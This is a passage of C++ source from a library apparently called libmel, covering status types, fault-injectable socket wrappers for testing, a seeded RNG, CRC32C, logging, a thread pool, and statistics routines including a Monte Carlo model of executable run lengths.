  /// Status usually carries a retry_after() hint.
  kUnavailable,
};

/// Number of StatusCode values — sized for per-code counter arrays and
/// metric label loops.
inline constexpr std::size_t kStatusCodeCount = 9;

/// Stable lowercase name for logs and test assertions.
[[nodiscard]] std::string_view status_code_name(StatusCode code) noexcept;

class [[nodiscard]] Status {
 public:
  /// Default: OK.
  Status() = default;
  Status(StatusCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  [[nodiscard]] static Status ok() { return Status(); }
  [[nodiscard]] static Status invalid_config(std::string message) {
    return Status(StatusCode::kInvalidConfig, std::move(message));
  }
  [[nodiscard]] static Status invalid_argument(std::string message) {
    return Status(StatusCode::kInvalidArgument, std::move(message));
  }
  [[nodiscard]] static Status payload_too_large(std::string message) {
    return Status(StatusCode::kPayloadTooLarge, std::move(message));
  }
  [[nodiscard]] static Status deadline_exceeded(std::string message) {
    return Status(StatusCode::kDeadlineExceeded, std::move(message));
  }
  [[nodiscard]] static Status resource_exhausted(std::string message) {
    return Status(StatusCode::kResourceExhausted, std::move(message));
  }
  [[nodiscard]] static Status degraded(std::string message) {
    return Status(StatusCode::kDegraded, std::move(message));
  }
  [[nodiscard]] static Status internal(std::string message) {
    return Status(StatusCode::kInternal, std::move(message));
  }
  [[nodiscard]] static Status unavailable(std::string message) {
    return Status(StatusCode::kUnavailable, std::move(message));
  }

  [[nodiscard]] bool is_ok() const noexcept {
    return code_ == StatusCode::kOk;
  }
  explicit operator bool() const noexcept { return is_ok(); }

  [[nodiscard]] StatusCode code() const noexcept { return code_; }
  [[nodiscard]] const std::string& message() const noexcept {
    return message_;
  }

  /// How long the caller should wait before retrying. Zero (the default)
  /// means "no hint": either the error is not retryable or the service
  /// could not compute a useful delay. Set on shed/refused paths (token
  /// bucket refill time, circuit-breaker reopen time).
  [[nodiscard]] std::chrono::nanoseconds retry_after() const noexcept {
    return retry_after_;
  }
  void set_retry_after(std::chrono::nanoseconds hint) noexcept {
    retry_after_ = hint;
  }
  /// Fluent form for factory chains:
  /// `Status::unavailable("shed").with_retry_after(5ms)`.
  [[nodiscard]] Status&& with_retry_after(
      std::chrono::nanoseconds hint) && noexcept {
    retry_after_ = hint;
    return std::move(*this);
  }

  /// "deadline_exceeded: scan exceeded 50ms budget" (or "ok"). A set
  /// retry_after() is appended as " (retry after Nms)".
  [[nodiscard]] std::string to_string() const;

 private:
  StatusCode code_ = StatusCode::kOk;
  std::string message_;
  std::chrono::nanoseconds retry_after_{0};
};

/// Whether a failed call may succeed if simply repeated later: true for
/// kUnavailable (shed / breaker / draining — transient by definition) and
/// kResourceExhausted (buffers drain, allocations recover). Deadline
/// trips are NOT retryable — the caller's time budget is spent — and
/// config/argument/payload errors fail the same way every time.
[[nodiscard]] bool is_retryable(const Status& status) noexcept;

template <typename T>
class [[nodiscard]] StatusOr {
 public:
  StatusOr(T value) : storage_(std::in_place_index<0>, std::move(value)) {}
  StatusOr(Status status)
      : storage_(std::in_place_index<1>, std::move(status)) {
    assert(!std::get<1>(storage_).is_ok() &&
           "StatusOr must not hold an OK status without a value");
  }

  [[nodiscard]] bool is_ok() const noexcept { return storage_.index() == 0; }
  explicit operator bool() const noexcept { return is_ok(); }

  [[nodiscard]] const T& value() const& {
    assert(is_ok());
    return std::get<0>(storage_);
  }
  [[nodiscard]] T& value() & {
    assert(is_ok());
    return std::get<0>(storage_);
  }
  [[nodiscard]] T&& take() && {
    assert(is_ok());
    return std::get<0>(std::move(storage_));
  }

  /// The error Status; on an OK result returns a static OK status.
  [[nodiscard]] const Status& status() const noexcept {
    static const Status kOk;
    return is_ok() ? kOk : std::get<1>(storage_);
  }
  [[nodiscard]] StatusCode code() const noexcept { return status().code(); }

 private:
  std::variant<T, Status> storage_;
};

}  // namespace mel::util
