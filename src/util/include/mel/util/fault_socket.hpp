#pragma once
// Fault-injectable socket syscall wrappers.
//
// src/net routes every connection-socket and listen-socket syscall
// through these wrappers so the kSock* fault points
// (fault_injection.hpp) can deterministically simulate the network's
// failure modes — short reads/writes, EAGAIN storms, peer resets, and
// accept failure — on a healthy loopback connection. With the points
// disarmed (or MEL_FAULT_INJECTION off) each wrapper is a thin veneer
// over the raw syscall.
//
// Error reporting matches the syscalls: -1 with errno set. Injected
// failures set errno exactly like the real failure would (EAGAIN,
// ECONNRESET, EPIPE, EMFILE), so callers cannot tell injected faults
// from real ones — which is the point: the handling path under test is
// the production path.
//
// The server's self-pipe wake fds are intentionally NOT routed through
// these wrappers: chaos must not be able to break the waking machinery
// itself, only the traffic it carries.

#include <sys/types.h>

#include <cstddef>

namespace mel::util::fault {

/// read(fd, buf, n) with kSockReadReset / kSockReadEAgain /
/// kSockReadShort injection (checked in that order). A firing
/// kSockReadShort clamps n to sock_byte_limit() before the real read,
/// so data is delayed, never lost.
[[nodiscard]] ssize_t sock_read(int fd, void* buf, std::size_t n) noexcept;

/// send(fd, buf, n, MSG_NOSIGNAL) with kSockWriteReset /
/// kSockWriteEAgain / kSockWriteShort injection (checked in that
/// order). MSG_NOSIGNAL turns a real peer-gone write into EPIPE
/// instead of SIGPIPE; injected kSockWriteReset reports EPIPE the same
/// way. A firing kSockWriteShort clamps n to sock_byte_limit(), which
/// tears the in-flight frame at a chosen byte offset on the peer's
/// decode path.
[[nodiscard]] ssize_t sock_write(int fd, const void* buf,
                                 std::size_t n) noexcept;

/// accept(fd, nullptr, nullptr) with kSockAcceptFailure injection
/// (reports EMFILE, the fd-exhaustion failure an acceptor must survive
/// without dropping existing connections).
[[nodiscard]] int sock_accept(int fd) noexcept;

}  // namespace mel::util::fault
