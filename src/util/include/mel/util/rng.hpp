#pragma once
// Deterministic pseudo-random number generation for all of libmel.
//
// Every stochastic component (Monte-Carlo engine, traffic generators,
// shellcode corpus, blending) draws from an explicitly seeded Xoshiro256**
// generator so that experiments and tests are exactly reproducible.

#include <array>
#include <cstdint>
#include <limits>

namespace mel::util {

/// SplitMix64 step; used to expand a single 64-bit seed into a full
/// Xoshiro256** state. Also usable standalone as a cheap hash/mixer.
[[nodiscard]] std::uint64_t splitmix64_next(std::uint64_t& state) noexcept;

/// Xoshiro256** 1.0 (Blackman & Vigna). Fast, high-quality, 256-bit state.
/// Satisfies std::uniform_random_bit_generator.
class Xoshiro256 {
 public:
  using result_type = std::uint64_t;

  /// Seeds the full state from a single 64-bit value via SplitMix64.
  explicit Xoshiro256(std::uint64_t seed = 0x9E3779B97F4A7C15ULL) noexcept;

  static constexpr result_type min() noexcept { return 0; }
  static constexpr result_type max() noexcept {
    return std::numeric_limits<result_type>::max();
  }

  result_type operator()() noexcept;

  /// Uniform double in [0, 1).
  [[nodiscard]] double next_double() noexcept;

  /// Uniform integer in [0, bound). Precondition: bound > 0.
  /// Uses Lemire's multiply-shift rejection method (unbiased).
  [[nodiscard]] std::uint64_t next_below(std::uint64_t bound) noexcept;

  /// Uniform integer in [lo, hi] inclusive. Precondition: lo <= hi.
  [[nodiscard]] std::int64_t next_in(std::int64_t lo, std::int64_t hi) noexcept;

  /// Bernoulli trial with success probability p (clamped to [0,1]).
  [[nodiscard]] bool next_bernoulli(double p) noexcept;

  /// Jump function: advances the state by 2^128 steps, giving a
  /// non-overlapping subsequence for a parallel/independent stream.
  void jump() noexcept;

  /// Derives an independent child generator (jumps a copy).
  [[nodiscard]] Xoshiro256 split() noexcept;

 private:
  std::array<std::uint64_t, 4> state_{};
};

}  // namespace mel::util
