#include "mel/util/crc32c.hpp"

#include <array>

namespace mel::util {

namespace {

inline constexpr std::uint32_t kPolyReflected = 0x82F63B78u;

/// 8 byte-sliced tables, built once at static-init time. Table 0 is the
/// classic Sarwate table; table k folds k additional zero bytes so the
/// hot loop consumes 8 input bytes per iteration.
struct Tables {
  std::array<std::array<std::uint32_t, 256>, 8> t{};

  constexpr Tables() {
    for (std::uint32_t i = 0; i < 256; ++i) {
      std::uint32_t crc = i;
      for (int bit = 0; bit < 8; ++bit) {
        crc = (crc >> 1) ^ ((crc & 1u) ? kPolyReflected : 0u);
      }
      t[0][i] = crc;
    }
    for (std::uint32_t i = 0; i < 256; ++i) {
      std::uint32_t crc = t[0][i];
      for (std::size_t k = 1; k < 8; ++k) {
        crc = t[0][crc & 0xFFu] ^ (crc >> 8);
        t[k][i] = crc;
      }
    }
  }
};

constexpr Tables kTables{};

}  // namespace

std::uint32_t crc32c_extend(std::uint32_t crc, ByteView bytes) noexcept {
  const auto& t = kTables.t;
  std::uint32_t c = ~crc;
  std::size_t i = 0;
  const std::size_t n = bytes.size();
  // Byte-sliced main loop: 8 bytes per iteration, no unaligned loads
  // (the bytes are combined explicitly, so endianness never leaks in).
  for (; i + 8 <= n; i += 8) {
    const std::uint32_t low =
        static_cast<std::uint32_t>(bytes[i]) |
        (static_cast<std::uint32_t>(bytes[i + 1]) << 8) |
        (static_cast<std::uint32_t>(bytes[i + 2]) << 16) |
        (static_cast<std::uint32_t>(bytes[i + 3]) << 24);
    c ^= low;
    c = t[7][c & 0xFFu] ^ t[6][(c >> 8) & 0xFFu] ^ t[5][(c >> 16) & 0xFFu] ^
        t[4][(c >> 24) & 0xFFu] ^ t[3][bytes[i + 4]] ^ t[2][bytes[i + 5]] ^
        t[1][bytes[i + 6]] ^ t[0][bytes[i + 7]];
  }
  for (; i < n; ++i) {
    c = t[0][(c ^ bytes[i]) & 0xFFu] ^ (c >> 8);
  }
  return ~c;
}

std::uint32_t crc32c(ByteView bytes) noexcept {
  return crc32c_extend(0, bytes);
}

}  // namespace mel::util
