#include "mel/util/logging.hpp"

#include <atomic>
#include <mutex>

namespace mel::util {

namespace {
std::atomic<LogLevel> g_threshold{LogLevel::kInfo};
// Serializes sink writes so concurrent scan workers never interleave
// characters of two log records.
std::mutex g_sink_mutex;

constexpr std::string_view level_tag(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug:
      return "DEBUG";
    case LogLevel::kInfo:
      return "INFO ";
    case LogLevel::kWarn:
      return "WARN ";
    case LogLevel::kError:
      return "ERROR";
  }
  return "?????";
}

void write_record(LogLevel level, const std::string& record) {
  std::ostream& out = (level >= LogLevel::kWarn) ? std::cerr : std::clog;
  std::lock_guard<std::mutex> lock(g_sink_mutex);
  out << record;
}

constexpr char kHexDigits[] = "0123456789abcdef";
}  // namespace

bool log_field_needs_escaping(std::string_view raw) noexcept {
  for (char c : raw) {
    const auto b = static_cast<unsigned char>(c);
    if (b < 0x20 || b > 0x7E || b == '\\') return true;
  }
  return false;
}

std::string escape_log_field(std::string_view raw) {
  if (!log_field_needs_escaping(raw)) return std::string(raw);
  std::string out;
  out.reserve(raw.size() + 8);
  for (char c : raw) {
    const auto b = static_cast<unsigned char>(c);
    switch (c) {
      case '\\':
        out += "\\\\";
        continue;
      case '\n':
        out += "\\n";
        continue;
      case '\r':
        out += "\\r";
        continue;
      case '\t':
        out += "\\t";
        continue;
      default:
        break;
    }
    if (b < 0x20 || b > 0x7E) {
      out += "\\x";
      out.push_back(kHexDigits[b >> 4]);
      out.push_back(kHexDigits[b & 0xF]);
    } else {
      out.push_back(c);
    }
  }
  return out;
}

LogLevel log_threshold() noexcept {
  return g_threshold.load(std::memory_order_relaxed);
}
void set_log_threshold(LogLevel level) noexcept {
  g_threshold.store(level, std::memory_order_relaxed);
}

void log_line(LogLevel level, std::string_view message) {
  if (level < log_threshold()) return;
  std::string record;
  record.reserve(message.size() + 16);
  record.append("[").append(level_tag(level)).append("] ");
  record.append(escape_log_field(message)).push_back('\n');
  write_record(level, record);
}

void log_line(LogLevel level, const LogContext& context,
              std::string_view message) {
  if (level < log_threshold()) return;
  std::ostringstream oss;
  oss << "[" << level_tag(level) << "] [";
  oss << (context.component.empty()
              ? std::string("?")
              : escape_log_field(context.component));
  if (context.scan_id != 0) oss << " scan=" << context.scan_id;
  oss << "] " << escape_log_field(message) << '\n';
  write_record(level, oss.str());
}

}  // namespace mel::util
