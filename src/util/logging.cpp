#include "mel/util/logging.hpp"

namespace mel::util {

namespace {
LogLevel g_threshold = LogLevel::kInfo;

constexpr std::string_view level_tag(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug:
      return "DEBUG";
    case LogLevel::kInfo:
      return "INFO ";
    case LogLevel::kWarn:
      return "WARN ";
    case LogLevel::kError:
      return "ERROR";
  }
  return "?????";
}
}  // namespace

LogLevel log_threshold() noexcept { return g_threshold; }
void set_log_threshold(LogLevel level) noexcept { g_threshold = level; }

void log_line(LogLevel level, std::string_view message) {
  if (level < g_threshold) return;
  std::ostream& out = (level >= LogLevel::kWarn) ? std::cerr : std::clog;
  out << "[" << level_tag(level) << "] " << message << '\n';
}

void log_line(LogLevel level, const LogContext& context,
              std::string_view message) {
  if (level < g_threshold) return;
  std::ostream& out = (level >= LogLevel::kWarn) ? std::cerr : std::clog;
  out << "[" << level_tag(level) << "] [";
  out << (context.component.empty() ? std::string_view("?")
                                    : context.component);
  if (context.scan_id != 0) out << " scan=" << context.scan_id;
  out << "] " << message << '\n';
}

}  // namespace mel::util
