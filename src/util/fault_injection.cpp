#include "mel/util/fault_injection.hpp"

#if defined(MEL_FAULT_INJECTION)

#include <atomic>

namespace mel::util::fault {

namespace {

struct PointState {
  std::atomic<bool> armed{false};
  Trigger trigger{};
  std::atomic<std::uint64_t> evaluations{0};
  std::atomic<std::uint64_t> fires{0};
  // Atomic so concurrent probability-trigger evaluations each claim a
  // distinct position in the SplitMix64 stream instead of racing on it.
  std::atomic<std::uint64_t> rng_state{0};
};

PointState g_points[kPointCount];
std::atomic<std::int64_t> g_skew_ns{0};
std::atomic<std::int64_t> g_jump_ns{10'000'000'000};  // 10s default jump.
std::atomic<std::size_t> g_sock_byte_limit{1};

PointState& state(Point point) noexcept {
  return g_points[static_cast<int>(point)];
}

inline constexpr std::uint64_t kSplitMixGamma = 0x9E3779B97F4A7C15ull;

/// SplitMix64 output mix on a claimed stream position.
std::uint64_t mix64(std::uint64_t z) noexcept {
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

/// SplitMix64: tiny, seedable, and good enough for firing decisions. The
/// state advance is a single fetch-add, so concurrent evaluations each
/// get a unique stream position; the mix runs on the claimed value.
std::uint64_t splitmix64(std::atomic<std::uint64_t>& state) noexcept {
  return mix64(state.fetch_add(kSplitMixGamma, std::memory_order_relaxed) +
               kSplitMixGamma);
}

/// Per-thread ScanScope state: when active, firing decisions are pure
/// functions of (trigger, sequence, per-point evaluation index) — no
/// shared stream, hence no interleaving dependence.
struct ScopeState {
  bool active = false;
  std::uint64_t sequence = 0;
  std::uint64_t local_evals[kPointCount] = {};
};

thread_local ScopeState t_scope;

double scoped_draw(const Trigger& trigger, std::uint64_t local) noexcept {
  // Seed-per-item (splitmix of trigger seed and scope sequence), then one
  // stream position per evaluation within the item.
  const std::uint64_t item_seed =
      mix64(trigger.seed + (t_scope.sequence + 1) * kSplitMixGamma);
  const std::uint64_t z = mix64(item_seed + (local + 1) * kSplitMixGamma);
  return static_cast<double>(z >> 11) * 0x1.0p-53;
}

}  // namespace

ScanScope::ScanScope(std::uint64_t sequence) noexcept
    : saved_sequence_(t_scope.sequence), saved_active_(t_scope.active) {
  for (int i = 0; i < kPointCount; ++i) {
    saved_evals_[i] = t_scope.local_evals[i];
    t_scope.local_evals[i] = 0;
  }
  t_scope.active = true;
  t_scope.sequence = sequence;
}

ScanScope::~ScanScope() noexcept {
  for (int i = 0; i < kPointCount; ++i) {
    t_scope.local_evals[i] = saved_evals_[i];
  }
  t_scope.active = saved_active_;
  t_scope.sequence = saved_sequence_;
}

bool scope_active() noexcept { return t_scope.active; }

void arm(Point point, const Trigger& trigger) noexcept {
  PointState& s = state(point);
  s.trigger = trigger;
  if (s.trigger.fire_every == 0) s.trigger.fire_every = 1;
  s.evaluations.store(0, std::memory_order_relaxed);
  s.fires.store(0, std::memory_order_relaxed);
  s.rng_state.store(trigger.seed, std::memory_order_relaxed);
  s.armed.store(true, std::memory_order_release);
}

void disarm(Point point) noexcept {
  state(point).armed.store(false, std::memory_order_release);
}

void reset() noexcept {
  for (PointState& s : g_points) {
    s.armed.store(false, std::memory_order_release);
  }
  g_skew_ns.store(0, std::memory_order_relaxed);
  g_jump_ns.store(10'000'000'000, std::memory_order_relaxed);
  g_sock_byte_limit.store(1, std::memory_order_relaxed);
}

void set_sock_byte_limit(std::size_t limit) noexcept {
  g_sock_byte_limit.store(limit == 0 ? 1 : limit, std::memory_order_relaxed);
}

std::size_t sock_byte_limit() noexcept {
  return g_sock_byte_limit.load(std::memory_order_relaxed);
}

bool should_fire(Point point) noexcept {
  PointState& s = state(point);
  if (!s.armed.load(std::memory_order_acquire)) return false;
  const std::uint64_t evaluation =
      s.evaluations.fetch_add(1, std::memory_order_relaxed);
  if (t_scope.active) {
    // Scoped (deterministic) path: the decision depends only on the
    // trigger and the scope, never on evaluations from other threads.
    const std::uint64_t local =
        t_scope.local_evals[static_cast<int>(point)]++;
    if (s.fires.load(std::memory_order_relaxed) >= s.trigger.max_fires) {
      return false;
    }
    bool fire;
    if (s.trigger.probability > 0.0) {
      fire = scoped_draw(s.trigger, local) < s.trigger.probability;
    } else {
      // Counter triggers select items: start_after and fire_every count
      // scope sequences (batch items), and every evaluation within a
      // selected item fires — fire_every=1 keeps its "every evaluation"
      // meaning.
      fire = t_scope.sequence >= s.trigger.start_after &&
             (t_scope.sequence - s.trigger.start_after) %
                     s.trigger.fire_every ==
                 0;
    }
    if (fire) s.fires.fetch_add(1, std::memory_order_relaxed);
    return fire;
  }
  if (evaluation < s.trigger.start_after) return false;
  if (s.fires.load(std::memory_order_relaxed) >= s.trigger.max_fires) {
    return false;
  }
  bool fire;
  if (s.trigger.probability > 0.0) {
    const double draw =
        static_cast<double>(splitmix64(s.rng_state) >> 11) * 0x1.0p-53;
    fire = draw < s.trigger.probability;
  } else {
    fire = (evaluation - s.trigger.start_after) % s.trigger.fire_every == 0;
  }
  if (fire) s.fires.fetch_add(1, std::memory_order_relaxed);
  return fire;
}

std::uint64_t fire_count(Point point) noexcept {
  return state(point).fires.load(std::memory_order_relaxed);
}

void set_time_jump(std::chrono::nanoseconds jump) noexcept {
  g_jump_ns.store(jump.count(), std::memory_order_relaxed);
}

std::chrono::nanoseconds time_jump() noexcept {
  return std::chrono::nanoseconds{g_jump_ns.load(std::memory_order_relaxed)};
}

void advance_clock(std::chrono::nanoseconds by) noexcept {
  g_skew_ns.fetch_add(by.count(), std::memory_order_relaxed);
}

std::chrono::nanoseconds clock_skew() noexcept {
  return std::chrono::nanoseconds{g_skew_ns.load(std::memory_order_relaxed)};
}

std::chrono::steady_clock::time_point now() noexcept {
  return std::chrono::steady_clock::now() + clock_skew();
}

}  // namespace mel::util::fault

#endif  // MEL_FAULT_INJECTION
