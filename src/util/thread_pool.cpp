#include "mel/util/thread_pool.hpp"

#include <utility>

namespace mel::util {

Status ThreadPoolOptions::validate() const {
  if (queue_capacity == 0) {
    return Status::invalid_config(
        "ThreadPoolOptions::queue_capacity must be >= 1");
  }
  return Status::ok();
}

ThreadPool::ThreadPool(ThreadPoolOptions options)
    : capacity_(options.queue_capacity == 0 ? 1 : options.queue_capacity) {
  std::size_t workers = options.workers;
  if (workers == 0) {
    workers = std::thread::hardware_concurrency();
    if (workers == 0) workers = 1;
  }
  workers_.reserve(workers);
  for (std::size_t i = 0; i < workers; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    stopping_ = true;
  }
  not_empty_.notify_all();
  not_full_.notify_all();
  for (std::thread& worker : workers_) worker.join();
}

void ThreadPool::submit(Task task) {
  {
    std::unique_lock<std::mutex> lock(mutex_);
    not_full_.wait(lock,
                   [this] { return queue_.size() < capacity_ || stopping_; });
    if (stopping_) return;  // Tear-down races drop the task, by contract.
    queue_.push_back(std::move(task));
  }
  not_empty_.notify_one();
}

bool ThreadPool::try_submit(Task task) {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    if (stopping_ || queue_.size() >= capacity_) {
      submissions_refused_.fetch_add(1, std::memory_order_relaxed);
      return false;
    }
    queue_.push_back(std::move(task));
  }
  not_empty_.notify_one();
  return true;
}

void ThreadPool::worker_loop() {
  for (;;) {
    Task task;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      not_empty_.wait(lock, [this] { return !queue_.empty() || stopping_; });
      if (queue_.empty()) return;  // stopping_ and drained.
      task = std::move(queue_.front());
      queue_.pop_front();
    }
    not_full_.notify_one();
    task();
    tasks_completed_.fetch_add(1, std::memory_order_relaxed);
  }
}

}  // namespace mel::util
