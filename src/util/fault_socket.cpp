#include "mel/util/fault_socket.hpp"

#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>

#include "mel/util/fault_injection.hpp"

namespace mel::util::fault {

ssize_t sock_read(int fd, void* buf, std::size_t n) noexcept {
  if (should_fire(Point::kSockReadReset)) {
    errno = ECONNRESET;
    return -1;
  }
  if (should_fire(Point::kSockReadEAgain)) {
    errno = EAGAIN;
    return -1;
  }
  if (should_fire(Point::kSockReadShort)) {
    n = std::min(n, sock_byte_limit());
  }
  return ::read(fd, buf, n);
}

ssize_t sock_write(int fd, const void* buf, std::size_t n) noexcept {
  if (should_fire(Point::kSockWriteReset)) {
    errno = EPIPE;
    return -1;
  }
  if (should_fire(Point::kSockWriteEAgain)) {
    errno = EAGAIN;
    return -1;
  }
  if (should_fire(Point::kSockWriteShort)) {
    n = std::min(n, sock_byte_limit());
  }
  return ::send(fd, buf, n, MSG_NOSIGNAL);
}

int sock_accept(int fd) noexcept {
  if (should_fire(Point::kSockAcceptFailure)) {
    errno = EMFILE;
    return -1;
  }
  return ::accept(fd, nullptr, nullptr);
}

}  // namespace mel::util::fault
