#include "mel/util/status.hpp"

namespace mel::util {

std::string_view status_code_name(StatusCode code) noexcept {
  switch (code) {
    case StatusCode::kOk:
      return "ok";
    case StatusCode::kInvalidConfig:
      return "invalid_config";
    case StatusCode::kInvalidArgument:
      return "invalid_argument";
    case StatusCode::kPayloadTooLarge:
      return "payload_too_large";
    case StatusCode::kDeadlineExceeded:
      return "deadline_exceeded";
    case StatusCode::kResourceExhausted:
      return "resource_exhausted";
    case StatusCode::kDegraded:
      return "degraded";
    case StatusCode::kInternal:
      return "internal";
    case StatusCode::kUnavailable:
      return "unavailable";
  }
  return "unknown";
}

std::string Status::to_string() const {
  std::string text(status_code_name(code_));
  if (!message_.empty()) {
    text += ": ";
    text += message_;
  }
  if (retry_after_.count() > 0) {
    const auto ms =
        std::chrono::duration_cast<std::chrono::milliseconds>(retry_after_);
    text += " (retry after " + std::to_string(ms.count()) + "ms)";
  }
  return text;
}

bool is_retryable(const Status& status) noexcept {
  switch (status.code()) {
    case StatusCode::kUnavailable:
    case StatusCode::kResourceExhausted:
      return true;
    default:
      return false;
  }
}

}  // namespace mel::util
