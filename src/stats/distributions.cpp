#include "mel/stats/distributions.hpp"

#include <cassert>
#include <cmath>

#include "mel/stats/special_functions.hpp"

namespace mel::stats {

Geometric::Geometric(double p) : p_(p) {
  assert(p > 0.0 && p <= 1.0);
}

double Geometric::pmf(std::int64_t x) const {
  if (x < 0) return 0.0;
  return std::pow(1.0 - p_, static_cast<double>(x)) * p_;
}

double Geometric::cdf(std::int64_t x) const {
  if (x < 0) return 0.0;
  return 1.0 - std::pow(1.0 - p_, static_cast<double>(x) + 1.0);
}

double Geometric::cdf_strict(std::int64_t x) const {
  if (x <= 0) return 0.0;
  return 1.0 - std::pow(1.0 - p_, static_cast<double>(x));
}

double Geometric::mean() const noexcept { return (1.0 - p_) / p_; }

Binomial::Binomial(std::int64_t n, double p) : p_(p), n_(n) {
  assert(n >= 0);
  assert(p >= 0.0 && p <= 1.0);
}

double Binomial::pmf(std::int64_t k) const {
  if (k < 0 || k > n_) return 0.0;
  if (p_ == 0.0) return k == 0 ? 1.0 : 0.0;
  if (p_ == 1.0) return k == n_ ? 1.0 : 0.0;
  const double log_pmf =
      log_binomial_coefficient(static_cast<unsigned long>(n_),
                               static_cast<unsigned long>(k)) +
      static_cast<double>(k) * std::log(p_) +
      static_cast<double>(n_ - k) * std::log1p(-p_);
  return std::exp(log_pmf);
}

double Binomial::cdf(std::int64_t k) const {
  if (k < 0) return 0.0;
  if (k >= n_) return 1.0;
  // Regularized incomplete beta would be ideal; direct summation is exact
  // enough for the n values in this library (n <= ~1e6) and keeps the
  // dependency surface minimal.
  double sum = 0.0;
  for (std::int64_t i = 0; i <= k; ++i) sum += pmf(i);
  return std::min(sum, 1.0);
}

double Binomial::mean() const noexcept {
  return static_cast<double>(n_) * p_;
}

double Binomial::variance() const noexcept {
  return static_cast<double>(n_) * p_ * (1.0 - p_);
}

}  // namespace mel::stats
