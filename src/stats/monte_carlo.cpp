#include "mel/stats/monte_carlo.hpp"

#include <algorithm>
#include <cassert>

namespace mel::stats {

std::int64_t simulate_mel_round(std::int64_t n, double p,
                                util::Xoshiro256& rng) {
  assert(n >= 0);
  std::int64_t best = 0;
  std::int64_t current = 0;
  for (std::int64_t i = 0; i < n; ++i) {
    if (rng.next_bernoulli(p)) {
      current = 0;  // Head: an invalid instruction terminates the run.
    } else {
      ++current;
      best = std::max(best, current);
    }
  }
  return best;
}

IntHistogram simulate_mel_distribution(const MonteCarloConfig& config) {
  assert(config.p > 0.0 && config.p <= 1.0);
  util::Xoshiro256 rng(config.seed);
  IntHistogram histogram;
  for (std::uint64_t round = 0; round < config.rounds; ++round) {
    histogram.add(simulate_mel_round(config.n, config.p, rng));
  }
  return histogram;
}

}  // namespace mel::stats
