#include "mel/stats/ks_test.hpp"

#include <algorithm>
#include <cassert>
#include <cmath>

namespace mel::stats {

double kolmogorov_survival(double x) {
  if (x <= 0.0) return 1.0;
  // P[K > x] = 2 * sum_{k>=1} (-1)^{k-1} exp(-2 k^2 x^2).
  double sum = 0.0;
  for (int k = 1; k <= 100; ++k) {
    const double term = std::exp(-2.0 * k * k * x * x);
    sum += (k % 2 == 1) ? term : -term;
    if (term < 1e-16) break;
  }
  return std::clamp(2.0 * sum, 0.0, 1.0);
}

KsResult ks_test_against_cdf(const IntHistogram& empirical, std::int64_t lo,
                             const std::vector<double>& model_cdf) {
  assert(!empirical.empty());
  assert(!model_cdf.empty());
  KsResult result;
  const std::int64_t hi = lo + static_cast<std::int64_t>(model_cdf.size()) - 1;
  const std::int64_t from = std::min(lo, empirical.min());
  const std::int64_t to = std::max(hi, empirical.max());
  for (std::int64_t x = from; x <= to; ++x) {
    const double model = x < lo ? 0.0
                        : x > hi ? 1.0
                                 : model_cdf[static_cast<std::size_t>(x - lo)];
    result.statistic = std::max(
        result.statistic, std::fabs(empirical.cdf(x) - model));
  }
  const double n = static_cast<double>(empirical.total());
  // Asymptotic with the standard finite-sample correction.
  const double scaled =
      (std::sqrt(n) + 0.12 + 0.11 / std::sqrt(n)) * result.statistic;
  result.p_value = kolmogorov_survival(scaled);
  return result;
}

KsResult ks_test_two_sample(const IntHistogram& a, const IntHistogram& b) {
  assert(!a.empty() && !b.empty());
  KsResult result;
  const std::int64_t from = std::min(a.min(), b.min());
  const std::int64_t to = std::max(a.max(), b.max());
  for (std::int64_t x = from; x <= to; ++x) {
    result.statistic =
        std::max(result.statistic, std::fabs(a.cdf(x) - b.cdf(x)));
  }
  const double na = static_cast<double>(a.total());
  const double nb = static_cast<double>(b.total());
  const double effective = std::sqrt(na * nb / (na + nb));
  const double scaled =
      (effective + 0.12 + 0.11 / effective) * result.statistic;
  result.p_value = kolmogorov_survival(scaled);
  return result;
}

}  // namespace mel::stats
