#include "mel/stats/special_functions.hpp"

#include <cassert>
#include <cmath>
#include <limits>

namespace mel::stats {

namespace {

constexpr int kMaxIterations = 500;
constexpr double kEpsilon = 1e-14;
constexpr double kTiny = 1e-300;

/// Series expansion of P(a, x); converges fast for x < a + 1.
double gamma_p_series(double a, double x) {
  double term = 1.0 / a;
  double sum = term;
  double ap = a;
  for (int i = 0; i < kMaxIterations; ++i) {
    ap += 1.0;
    term *= x / ap;
    sum += term;
    if (std::fabs(term) < std::fabs(sum) * kEpsilon) break;
  }
  return sum * std::exp(-x + a * std::log(x) - log_gamma(a));
}

/// Continued fraction (modified Lentz) for Q(a, x); for x >= a + 1.
double gamma_q_continued_fraction(double a, double x) {
  double b = x + 1.0 - a;
  double c = 1.0 / kTiny;
  double d = 1.0 / b;
  double h = d;
  for (int i = 1; i <= kMaxIterations; ++i) {
    const double an = -static_cast<double>(i) * (static_cast<double>(i) - a);
    b += 2.0;
    d = an * d + b;
    if (std::fabs(d) < kTiny) d = kTiny;
    c = b + an / c;
    if (std::fabs(c) < kTiny) c = kTiny;
    d = 1.0 / d;
    const double delta = d * c;
    h *= delta;
    if (std::fabs(delta - 1.0) < kEpsilon) break;
  }
  return std::exp(-x + a * std::log(x) - log_gamma(a)) * h;
}

}  // namespace

double log_gamma(double x) {
  assert(x > 0.0);
  return std::lgamma(x);
}

double regularized_gamma_p(double a, double x) {
  assert(a > 0.0);
  assert(x >= 0.0);
  if (x == 0.0) return 0.0;
  if (x < a + 1.0) return gamma_p_series(a, x);
  return 1.0 - gamma_q_continued_fraction(a, x);
}

double regularized_gamma_q(double a, double x) {
  assert(a > 0.0);
  assert(x >= 0.0);
  if (x == 0.0) return 1.0;
  if (x < a + 1.0) return 1.0 - gamma_p_series(a, x);
  return gamma_q_continued_fraction(a, x);
}

double log_binomial_coefficient(unsigned long n, unsigned long k) {
  assert(k <= n);
  return log_gamma(static_cast<double>(n) + 1.0) -
         log_gamma(static_cast<double>(k) + 1.0) -
         log_gamma(static_cast<double>(n - k) + 1.0);
}

double chi_square_survival(double statistic, int dof) {
